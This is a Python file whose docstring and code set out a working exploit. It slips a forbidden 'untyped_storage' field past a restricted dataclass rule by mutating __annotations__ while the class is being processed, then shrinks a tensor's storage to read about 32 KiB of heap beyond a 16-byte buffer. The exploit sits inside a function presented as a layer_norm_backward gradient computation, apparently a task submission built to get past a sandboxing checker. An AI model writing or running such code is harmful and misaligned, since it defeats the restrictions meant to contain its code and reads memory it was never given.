"""Idea: the dataclass field-name rule (restricted.py `dataclass` wrapper) reads the class's
__annotations__ once, then hands the class to dataclasses.dataclass, which reads the same dict again
and, for each field, runs getattr(cls, name) for its default. A default that is
classmethod(property(hook)) (3.9-3.12 chain __get__) runs the file's hook in the middle of that
loop: it pops a later annotation and adds one named `untyped_storage` (dict size unchanged, so the
iteration goes on and processes the new key). The class then has a field the rule refuses.
dataclasses.asdict reads it with getattr in dataclasses' own code, deep-copies it (a bound builtin
method is atomic for deepcopy) and hands it back in a plain dict: the raw storage of a tensor.
"""

import dataclasses

import torch


def hook(cls):
    annotations = cls.__annotations__
    if "c" in annotations:
        annotations.pop("c")
        annotations["untyped_storage"] = object
    return 0


class G(torch.Tensor):
    a: int = classmethod(property(hook))
    c: int = 0


G = dataclasses.dataclass(init=False, repr=False, eq=False)(G)


def layer_norm_backward(x, weight, bias, grad_output, eps):
    g = x.as_subclass(G)
    found = dataclasses.asdict(g)
    method = found["untyped_storage"]
    storage = method()
    print("FIELDS", [f.name for f in dataclasses.fields(G)], "STORAGE", type(storage).__name__, storage.nbytes())
    # Out of bounds: shrink a window's storage under it, then read the heap past its end.
    window = torch.zeros(4096, dtype=torch.int64)
    dataclasses.asdict(window.as_subclass(G))["untyped_storage"]().resize_(16)
    victims = [torch.full((2,), 7, dtype=torch.int64) for _ in range(64)]
    pointers = {v.data_ptr() for v in victims}
    words = window.clone().tolist()  # 32 KiB read from a 16-byte buffer
    print("HEAP WORDS READ", len(words), "nonzero", sum(1 for w in words if w), "victim data pointers seen", sum(1 for w in words if w in pointers))
    # the reference computation, so that only the hole decides
    d = x.shape[-1]
    rows = x.reshape(-1, d)
    dy = grad_output.reshape(-1, d)
    mean = rows.mean(1, keepdim=True)
    c = rows - mean
    var = (c * c).mean(1, keepdim=True)
    sigma = torch.sqrt(var + eps)
    x_hat = c / sigma
    gw = (dy * x_hat).sum(0)
    gb = dy.sum(0)
    g2 = dy * weight
    gx = (g2 - g2.mean(1, keepdim=True) - x_hat * (g2 * x_hat).mean(1, keepdim=True)) / sigma
    return gx.reshape(x.shape), gw, gb
